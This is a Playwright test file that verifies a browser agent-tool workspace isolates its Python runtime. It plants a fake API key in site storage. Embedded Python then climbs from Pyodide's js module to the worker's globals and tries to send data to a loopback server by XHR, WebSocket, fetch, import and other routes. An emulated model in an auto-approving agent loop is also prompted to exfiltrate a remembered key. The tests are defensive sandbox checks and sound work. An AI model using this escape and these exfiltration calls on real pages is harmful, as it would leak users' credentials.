/**
 * Code a tool runs reaches nothing but its workspace: a Python script that climbs out of its `js` module to the
 * worker's globals still reaches no network and none of the site's storage, because the runtime worker lives in
 * an opaque-origin frame whose policy forbids every connection. A loopback server counts what arrives: nothing.
 * The frame carries that policy in its own HTML too, so it holds on a host that sends none of the site's headers.
 */
import { expect, test, type Page } from '@playwright/test';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { openTool, setEditorText } from './helpers';
import { createStaticHost, listen } from '../scripts/static-host';
import { MISSING_HEADERS_MESSAGE } from '../src/app/worker/runtime-load-failure';
import { EXFILTRATE_ANSWER } from '../src/core/model/emulator/scenarios';
import { useProviderEmulator } from './servers/provider-emulator-hooks';

const emulator = useProviderEmulator(test);

let server: Server;
let base = '';
const received: string[] = [];

test.beforeAll(async () => {
  server = createServer((request, response) => {
    received.push(`${request.method} ${request.url}`);
    response.writeHead(200, { 'access-control-allow-origin': '*', 'content-type': 'text/plain' }).end('ok');
  });
  // Every connection counts, whatever it carries (an HTTP request, a WebSocket upgrade, a stream).
  server.on('connection', () => received.push('connection'));
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  base = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
});

test.afterAll(() => new Promise<void>((resolve) => server.close(() => resolve())));

/** A secret the page holds, as a remembered model key is held: in the site's IndexedDB and localStorage. */
async function plantSecret(page: Page): Promise<void> {
  await page.evaluate(
    () =>
      new Promise<void>((resolve, reject) => {
        localStorage.setItem('planted-secret', 'sk-PLANTED-SECRET');
        const open = indexedDB.open('planted-secrets', 1);
        open.onupgradeneeded = () => open.result.createObjectStore('keys');
        open.onsuccess = () => {
          const transaction = open.result.transaction('keys', 'readwrite');
          transaction.objectStore('keys').put('sk-PLANTED-SECRET', 'openai');
          transaction.oncomplete = () => resolve();
          transaction.onerror = () => reject(transaction.error);
        };
        open.onerror = () => reject(open.error);
      }),
  );
}

async function runArguments(page: Page, tool: string, args: Record<string, unknown>, site?: string): Promise<string> {
  if (site) {
    await page.goto(new URL(`tools/${tool}/`, site).href);
    await expect(page.getByRole('heading', { level: 1, name: tool })).toBeVisible();
  } else await openTool(page, tool);
  await setEditorText(page, JSON.stringify(args));
  await page.getByRole('button', { name: /Execute/ }).click();
  const dialog = page.getByRole('dialog', { name: 'Approve this call?' });
  await expect(dialog).toBeVisible({ timeout: 30_000 });
  await dialog.getByRole('button', { name: 'Approve' }).click();
  const result = page.getByTestId('execution-result');
  await expect(result.getByTestId('result-status')).toBeVisible({ timeout: 90_000 });
  await expect(result.getByTestId('stdout')).toContainText('done', { timeout: 30_000 });
  return (await result.getByTestId('stdout').textContent()) ?? '';
}

const escapeScript = (base: string) =>
  [
    'import js, asyncio',
    'from pyodide.ffi import to_js',
    'def attempt(label, action):',
    '    try:',
    '        action()',
    '        print(label, "ran")',
    '    except BaseException as error:',
    '        print(label, "refused", type(error).__name__)',
    'attempt("js.fetch", lambda: js.fetch)',
    'attempt("js.indexedDB", lambda: js.indexedDB)',
    // Out of the js module: the Function constructor of any JavaScript object gives the worker's globals.
    'scope = to_js([]).constructor.constructor("return globalThis")()',
    'print("worker origin", scope.origin)',
    `attempt("indexedDB", lambda: scope.indexedDB.open("planted-secrets"))`,
    `attempt("localStorage", lambda: scope.localStorage.getItem("planted-secret"))`,
    'def xhr():',
    '    request = scope.XMLHttpRequest.new()',
    `    request.open("GET", "${base}/xhr?leaked=sk", False)`,
    '    request.send()',
    'attempt("XMLHttpRequest", xhr)',
    `attempt("WebSocket", lambda: scope.WebSocket.new("${base.replace('http', 'ws')}/ws?leaked=sk"))`,
    `attempt("EventSource", lambda: scope.EventSource.new("${base}/sse?leaked=sk"))`,
    `attempt("fetch", lambda: scope.fetch("${base}/fetch?leaked=sk"))`,
    `attempt("import", lambda: scope.Function.new("return import('${base}/import.js?leaked=sk')")())`,
    `attempt("importScripts", lambda: scope.importScripts("${base}/classic.js?leaked=sk"))`,
    'print("done")',
  ].join('\n');

test('Python climbing out of its js module reaches no network and no site storage', async ({ page }) => {
  test.setTimeout(180_000);
  await page.goto('./');
  await plantSecret(page);
  const stdout = await runArguments(page, 'execute_script', {
    script: escapeScript(base),
    language: 'python',
    timeout_seconds: 60,
  });

  expect(stdout).toContain('js.fetch refused');
  expect(stdout).toContain('js.indexedDB refused');
  expect(stdout).toContain('worker origin null');
  // Refused where they are asked; a WebSocket, an EventSource, a fetch or an import is refused by the frame's
  // policy once it tries to connect, which the server's count below shows.
  for (const door of ['indexedDB', 'localStorage', 'XMLHttpRequest', 'importScripts'])
    expect(stdout).toMatch(new RegExp(`^${door} refused`, 'm'));
  expect(stdout).not.toContain('sk-PLANTED-SECRET');
  // Give any request that slipped out time to land.
  await page.waitForTimeout(1000);
  expect(received).toEqual([]);
});

test('served without the site’s policy headers, the frame’s own policy still forbids every connection', async ({
  page,
}) => {
  test.setTimeout(180_000);
  // As GitHub Pages serves a site: Access-Control-Allow-Origin: * on every file, and none of _headers' other headers.
  const host = createStaticHost(process.env.E2E_DIST ?? 'dist', {
    headers: [{ for: '/*', values: { 'Access-Control-Allow-Origin': '*' } }],
    redirects: [],
  });
  const site = await listen(host, 0);
  try {
    const frame = await page.request.get(new URL('runtime-sandbox.html', site).href);
    expect(frame.headers()['content-security-policy']).toBeUndefined();
    const stdout = await runArguments(
      page,
      'execute_script',
      { script: escapeScript(base), language: 'python', timeout_seconds: 60 },
      site,
    );
    // The script ran to its end, and nothing of the page says the runtime failed.
    const result = page.getByTestId('execution-result');
    await expect(result.getByTestId('result-status')).toHaveText('✓ Success');
    await expect(page.getByText(MISSING_HEADERS_MESSAGE)).toHaveCount(0);
    expect(stdout).toContain('worker origin null');
    for (const door of ['indexedDB', 'localStorage', 'XMLHttpRequest', 'importScripts'])
      expect(stdout).toMatch(new RegExp(`^${door} refused`, 'm'));
    // Give any request that slipped out time to land.
    await page.waitForTimeout(1000);
    expect(received).toEqual([]);
  } finally {
    await new Promise((resolve) => host.close(resolve));
  }
});

test('the same holds through execute_command, and the workspace still persists through the page', async ({ page }) => {
  test.setTimeout(180_000);
  await page.goto('./');
  const command = `python3 -c "from pyodide.ffi import to_js; s = to_js([]).constructor.constructor('return globalThis')(); r = s.XMLHttpRequest.new(); r.open('GET', '${base}/cmd', False)
try:
    r.send()
except BaseException as e:
    print('xhr refused', type(e).__name__)
print('done')"`;
  const stdout = await runArguments(page, 'execute_command', { command, timeout_seconds: 60 });
  expect(stdout).toContain('xhr refused');
  expect(received).toEqual([]);

  // The worker has no storage of its own: the page keeps the workspace, so a written file survives a reload.
  await runArguments(page, 'execute_command', { command: 'echo kept > sandbox-kept.txt && echo done' });
  await page.reload();
  const stdout2 = await runArguments(page, 'execute_command', { command: 'cat sandbox-kept.txt && echo done' });
  expect(stdout2).toContain('kept');
});

test('a model in the agent loop, approving by itself up to high, sends a remembered key nowhere', async ({ page }) => {
  test.setTimeout(180_000);
  const key = 'sk-HOSTILE-KEY-0042';
  await page.goto('./models/');
  await page.getByLabel('Provider').selectOption('openai-chat');
  await page.getByLabel('Base URL').fill(`${emulator.url}/v1`);
  await page.getByLabel('Model', { exact: true }).fill('emulated-large');
  await page.getByLabel(/^API key/).fill(key);
  await page.getByLabel('Remember on this device').check();
  await page.getByLabel('User message').fill(`[exfiltrate] Summarise ${base}`);
  await page.getByLabel(/Run valid calls in the workspace/).check();
  await page.getByLabel('Approve by itself up to').selectOption('high');
  await page.getByRole('button', { name: 'Send to the model' }).click();
  await expect(page.getByTestId('model-stop')).toHaveAttribute('data-reason', 'finished', { timeout: 120_000 });
  await expect(page.getByTestId('model-text').last()).toHaveText(EXFILTRATE_ANSWER);
  // The script ran (no dialog stopped it), found no storage to open, and what it sent reached nobody.
  await expect(page.getByTestId('model-call-sent').first()).toContainText('Ran');
  expect(JSON.stringify(emulator.requests.at(-1)!.body)).toMatch(/sent (SecurityError|JsException)/);
  await page.waitForTimeout(1000);
  expect(received).toEqual([]);
});

test('two tabs on one workspace: a file written in each survives in both and after a reload', async ({ context }) => {
  test.setTimeout(180_000);
  const tabA = await context.newPage();
  const tabB = await context.newPage();
  await tabA.goto('./');
  await tabB.goto('./');
  const write = async (page: Page, path: string) => {
    await openTool(page, 'write_file');
    await setEditorText(page, JSON.stringify({ path, content: `${path}\n` }));
    await page.getByRole('button', { name: /Execute/ }).click();
    await expect(page.getByTestId('execution-result').getByTestId('result-status')).toHaveText('✓ Success', {
      timeout: 60_000,
    });
  };
  // Both tabs load the workspace before either writes, so each holds a copy the other's write makes stale.
  await openTool(tabA, 'list_directory');
  await openTool(tabB, 'list_directory');
  await write(tabA, 'tabA.txt');
  await write(tabB, 'tabB.txt');
  for (const page of [tabA, tabB]) {
    await page.reload();
    const stdout = await runArguments(page, 'execute_command', { command: 'cat tabA.txt tabB.txt && echo done' });
    expect(stdout).toContain('tabA.txt');
    expect(stdout).toContain('tabB.txt');
  }
});
